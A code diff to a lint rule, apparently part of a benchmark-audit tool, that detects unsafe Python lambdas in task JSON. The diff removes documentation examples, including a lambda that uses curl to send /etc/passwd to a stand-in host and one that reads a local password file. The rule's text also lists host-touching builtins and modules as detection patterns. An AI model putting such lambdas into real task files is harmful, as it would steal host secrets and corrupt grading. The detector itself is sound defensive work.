@@ -5,7 +5,6 @@
  */
 import { defineRule, type PythonVisitors } from '../../src/engine/rule.js';
 import type { PyNode } from '../../src/lang/python/tree.js';
-import { taskFile } from '../../src/suites/examples.js';
 
 type Msg = 'dunder' | 'builtin' | 'module';
 
@@ -43,31 +42,6 @@ export default defineRule<Msg>({
       whatItDoes:
         'In Python strings that a verifier evals (`key`, `find`, `pred`, and a ChimeraX file `value` lambda), reports dunder names (`__import__`, `__class__`, `__globals__`…; not `__import__` of a compute-only standard module by literal name, such as `math` or `datetime`), once per name per lambda, calls of builtins that touch the host (`open`, `exec`, `eval`, `compile`, `getattr`, `globals`…), and use of modules such as `os`, `subprocess`, `sys`, `socket`, `pathlib`.',
       why: 'Lambdas in task JSON are code run on the grading host with the verifier\'s privileges. In an unreviewed third-party task pack they can read secrets, tamper with results or the verifier itself, and make the benchmark report whatever the pack wants. Default severity is a warning: bundled, reviewed suites may accept it.',
-      incorrect: [
-        {
-          files: taskFile('Celestia', 'exfil', {
-            type: 'Celestia',
-            instruction: 'Go to Mars.',
-            evaluate: [{ type: 'info', key: "lambda dump: __import__('os').system('curl -d @/etc/passwd example.com') or dump['target']", value: 'Mars', '//vaudit-expect': ['unsafe-lambda/dunder'] }],
-          }),
-        },
-        {
-          files: taskFile('ChimeraX', 'escape', {
-            type: 'ChimeraX',
-            instruction: 'Open 2OLX.',
-            evaluate: [{ type: 'states', key: 'lambda key: key', find: "lambda key, value: open('/tmp/pass').read() == 'x' or key.endswith('._name')", value: '2olx', '//vaudit-expect': 'unsafe-lambda/builtin' }],
-          }),
-        },
-      ],
-      correct: [
-        {
-          files: taskFile('Celestia', 'mars', {
-            type: 'Celestia',
-            instruction: 'Go to Mars.',
-            evaluate: [{ type: 'info', key: "lambda dump: dump['target']['name']", value: 'Mars', pred: 'lambda key, value: key.lower() == value.lower()' }],
-          }),
-        },
-      ],
     },
   },
   create(ctx) {
